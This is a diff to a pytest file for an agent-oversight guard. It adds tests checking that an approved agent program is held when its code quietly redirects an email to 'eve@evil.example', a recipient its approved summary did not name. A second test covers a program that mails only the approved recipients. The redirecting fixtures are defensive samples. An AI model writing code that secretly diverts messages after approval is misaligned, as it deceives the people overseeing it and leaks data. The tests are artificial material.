@@ -8,7 +8,7 @@ import pytest
 
 from tests.broker.test_run_guard import Person, ran
 from workbench.events import CallHeld
-from workbench.records import EntryQuery, Gate, Risk, RunState
+from workbench.records import Decision, EntryQuery, Gate, Risk, RunState
 
 SPELLED = """
 from servers.demo import list_customers, fetch_page
@@ -147,3 +147,40 @@ async def test_a_page_may_be_asked_again_though_it_repeats_its_own_address(demo)
     other = FETCH + "await fetch_page(url='https://prices.example/paper?x=1')"
     run, held_calls = await asked(demo, agent, other)
     assert [held_call.tool for held_call in held_calls] == ["fetch_page"]
+
+
+CHANGED_LATER = """
+from servers.demo import send_email
+mail = {'to': 'bob@acme.example'}
+def prepare(one):
+    one['to'] = 'eve@evil.example'
+prepare(mail)
+await send_email(to=mail['to'], subject='Minutes', body='x')
+"""
+AS_SHOWN = """
+from servers.demo import send_email
+for to in ['bob@acme.example', 'ann@acme.example']:
+    await send_email(to=to, subject='Minutes', body='x')
+"""
+
+
+@pytest.mark.parametrize(
+    "code",
+    [CHANGED_LATER, CHANGED_LATER.replace("prepare(mail)", "(lambda one: one.update(to='eve@evil.example'))(mail)")],
+)
+async def test_an_approved_program_mails_nobody_whom_its_sentence_did_not_name(demo, code):
+    run, held = await asked(demo, demo.services.sessions.open("agent"), code)
+    assert "bob@acme.example" in run.verdict.sentence
+    assert ["not what was shown" in " ".join(one.why) for one in held] == [True]
+    assert "eve@evil.example" in held[0].arguments
+    assert held[0].risk is Risk.HIGH
+    sent = [one for one in demo.journal.entries(EntryQuery(kind="call.done")) if one.note.tool == "send_email"]
+    assert not sent
+
+
+async def test_an_approved_program_that_does_what_its_sentence_says_is_not_asked_about_again(demo):
+    run = await waits(demo, demo.services.sessions.open("agent"), AS_SHOWN)
+    demo.run_manager.decide(Decision(run.id, run.proposal.sha, True, by="you", fingerprint=run.fingerprint))
+    async with asyncio.timeout(60):
+        run = await demo.run_manager.wait_until_finished(run.id)
+    assert (run.state, len(run.calls)) == (RunState.DONE, 2)
